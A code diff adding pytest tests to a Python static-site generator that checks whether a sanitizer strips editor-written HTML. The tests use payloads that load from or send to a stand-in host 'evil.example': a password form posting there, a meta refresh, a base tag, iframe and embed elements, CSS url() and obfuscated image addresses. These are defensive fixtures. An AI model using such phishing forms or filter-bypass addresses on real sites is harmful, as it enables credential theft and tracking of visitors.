@@ -3,6 +3,7 @@ with build_site and every page's HTML is searched for what must not be there."""
 
 from __future__ import annotations
 
+import html as html_module
 import os
 import shutil
 from html.parser import HTMLParser
@@ -611,3 +612,189 @@ def test_a_file_that_grows_past_the_limit_is_read_no_further(
     assert (raw, problems) == (None, [])
     assert size == MAX_FILE_BYTES + 1
     assert sum(reads) == MAX_FILE_BYTES + 1
+
+
+# --- 3. Editors' HTML: no block shape brings forms, drawings or requests to other hosts ----
+
+BLOCKS = [
+    '<form action="https://evil.example/steal" class="evil"><input type="password" '
+    'name="pw" class="evil"><button formaction="https://evil.example/f" class="evil">OK'
+    "</button></form>",
+    '<svg class="evil"><image href="https://evil.example/svg.png"/>'
+    '<use href="https://evil.example/s.svg#a"/></svg>',
+    '<div class="evil"><form><input type="password" class="evil"></form></div>',
+    '<p class="evil"><svg class="evil"><a href="https://evil.example/"><text>x</text></a>'
+    "</svg></p>",
+    '<table class="evil"><tr><td><form class="evil"><select class="evil"></select></form>'
+    "</td></tr></table>",
+    '<h2 class="evil">Kop <a href="https://www.ser.nl/" class="evil">h</a></h2>',
+    '<section class="evil"><img src="pixel.png" alt="own"></section>',
+    '<div style="background:url(https://evil.example/bg.png)" class="evil">bg</div>',
+    '<ul class="evil"><li><img srcset="https://evil.example/set.png 1x"></li>'
+    '<li><video poster="https://evil.example/poster.png"></video></li></ul>',
+    '<div><meta http-equiv="refresh" content="0;url=https://evil.example/"></div>',
+    '<nav><base href="https://evil.example/"></nav>',
+    '<figure><object data="https://evil.example/o"></object><embed src="https://evil.example/e">'
+    '<iframe src="https://evil.example/i"></iframe></figure>',
+    '<dl><dt>a</dt><dd><link rel="stylesheet" href="https://evil.example/s.css"></dd></dl>',
+]
+"""Paragraphs that are each one block element, as an editor might write them."""
+
+LOADING = {
+    "src", "srcset", "poster", "data", "background", "formaction", "action", "xlink:href",
+}  # fmt: skip
+
+
+def _blocks_content(folder: Path) -> Path:
+    content = folder / "content"
+    shutil.copytree(FIXTURE, content)
+    covenant = content / "covenants" / "voorbeeld.yaml"
+    text = covenant.read_text("utf-8")
+    paragraphs = "".join(f"    {block}\n\n" for block in BLOCKS).rstrip("\n") + "\n"
+    for old in ("  nl: Een convenant om de fixture te testen.", "  nl: Klachten gaan"):
+        line = next(line for line in text.splitlines() if line.startswith(old))
+        text = text.replace(line, f"  nl: |\n    {line[6:]}\n\n{paragraphs}", 1)
+    covenant.write_text(text, encoding="utf-8")
+    about = content / "texts" / "about.nl.md"
+    about.write_text(about.read_text("utf-8") + "\n" + "\n\n".join(BLOCKS) + "\n", encoding="utf-8")
+    return content
+
+
+@pytest.fixture(scope="module")
+def blocks_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """Every block shape in a factsheet's fields and in a text page, built without PDFs."""
+    folder = tmp_path_factory.mktemp("blocks")
+    os.environ.setdefault("SOURCE_DATE_EPOCH", "1763683200")
+    corpus = load_content(_blocks_content(folder), folder)
+    build_site(corpus, folder / "site", post_steps=post_steps(pdf=False), pdf_links=False)
+    return folder / "site"
+
+
+@pytest.mark.parametrize("page", ["voorbeeld.html", "over-deze-site.html"])
+def test_no_block_shape_brings_forms_or_drawings(blocks_site: Path, page: str) -> None:
+    html = (blocks_site / page).read_text("utf-8")
+    found = Markup(html).tags
+    evil = [(tag, attrs) for tag, attrs in found if "evil" in attrs.get("class", "").split()]
+    assert {tag for tag, _ in evil} <= {"div", "p", "table", "h2", "a", "section", "ul"}
+    assert "evil.example" not in html
+    assert "password" not in html
+    assert not {"form", "input", "select", "button", "svg", "image", "use"} & {
+        tag for tag, attrs in evil
+    }
+    assert "bg</div>" in html  # the text of a block stays; only what is unsafe goes
+
+
+def test_no_page_makes_the_browser_go_to_another_host(blocks_site: Path) -> None:
+    from imvo.sanitize import leaves_the_site
+
+    found = []
+    for path, page in parsed(blocks_site).items():
+        for tag, attrs in page.tags:
+            for name, value in attrs.items():
+                loads = name in LOADING or (name == "href" and tag in {"link", "image", "use"})
+                if loads and (leaves_the_site(value) or "\\" in value):
+                    found.append((path, tag, name, value))
+                if name == "style" and "url(" in value.replace(" ", ""):
+                    found.append((path, tag, name, value))
+                if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
+                    found.append((path, tag, name, value))
+            if tag == "base":
+                found.append((path, tag, "", ""))
+    assert found == []
+
+
+IMAGES = [
+    "\\\\evil.example/a.png",
+    "\\/evil.example/b.png",
+    "/\\evil.example/c.png",
+    "/&#9;/evil.example/d.png",
+    "/&#10;/evil.example/e.png",
+    " https://evil.example/f.png",
+    "HTTPS://evil.example/g.png",
+    "//evil.example/h.png",
+]
+"""Image addresses a browser loads from another host, however they are written."""
+
+
+@pytest.mark.parametrize("src", IMAGES)
+def test_an_image_from_another_host_is_dropped_however_written(src: str) -> None:
+    from imvo.sanitize import sanitize, sanitize_text
+
+    for clean in (sanitize, sanitize_text):
+        assert clean(f'<p><img src="{src}" alt="x"></p>') == '<p><img alt="x"></p>'
+
+
+@pytest.mark.parametrize("src", IMAGES[:3])
+def test_an_image_from_another_host_in_raw_html_is_an_error_on_its_line(
+    src: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    content = tmp_path / "content"
+    shutil.copytree(FIXTURE, content)
+    covenant = content / "covenants" / "voorbeeld.yaml"
+    text = covenant.read_text("utf-8").replace(
+        "  nl: Een convenant om de fixture te testen.",
+        f"  nl: |\n    Een convenant.\n\n    <div><img src='{src}' alt=''></div>",
+    )
+    covenant.write_text(text, encoding="utf-8")
+    before = old_site(tmp_path)
+    built = bad_run_build(tmp_path, monkeypatch, capsys)
+    shown = html_module.unescape(src)
+    assert (built.code, built.err.splitlines()) == (
+        1,
+        [
+            "The site was not built (the existing site is unchanged):",
+            f"content/covenants/voorbeeld.yaml:32: (link): the image '{shown}' cannot be "
+            "shown: the site shows only its own files and loads nothing from other sites; "
+            "link to the image instead: [what it shows](address)",
+        ],
+    )
+    assert bad_snapshot(tmp_path / "site") == before
+
+
+@pytest.mark.parametrize(
+    ("href", "message"),
+    [
+        ("nergens.html", "leads to no page of the site"),
+        ("voorbeeld.yaml", "leads to no page of the site"),
+        ("\\\\evil.example/", "is not a valid address"),
+        ("over deze.html", "is not a valid address"),
+    ],
+)
+def test_a_raw_link_is_checked_as_a_markdown_link_is(
+    href: str,
+    message: str,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    content = tmp_path / "content"
+    shutil.copytree(FIXTURE, content)
+    about = content / "texts" / "about.en.md"
+    about.write_text(
+        about.read_text("utf-8") + f'\nSee <a href="{href}">this page</a>.\n', encoding="utf-8"
+    )
+    built = bad_run_build(tmp_path, monkeypatch, capsys)
+    lines = built.err.splitlines()
+    assert built.code == 1
+    assert len(lines) == 2
+    assert lines[1].startswith("content/texts/about.en.md:")
+    assert f"(link): the link '{href}' {message}" in lines[1]
+
+
+def test_raw_links_to_pages_anchors_and_other_sites_build(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    content = tmp_path / "content"
+    shutil.copytree(FIXTURE, content)
+    about = content / "texts" / "about.en.md"
+    links = [
+        "overview.html",
+        "voorbeeld.html#parties",
+        "#top",
+        "https://www.ser.nl/",
+        "mailto:info@example.org",
+    ]
+    extra = "".join(f'<a href="{href}">link {n}</a> ' for n, href in enumerate(links))
+    about.write_text(about.read_text("utf-8") + f"\n{extra}\n", encoding="utf-8")
+    built = bad_run_build(tmp_path, monkeypatch, capsys)
+    assert built.code == 0, built.err
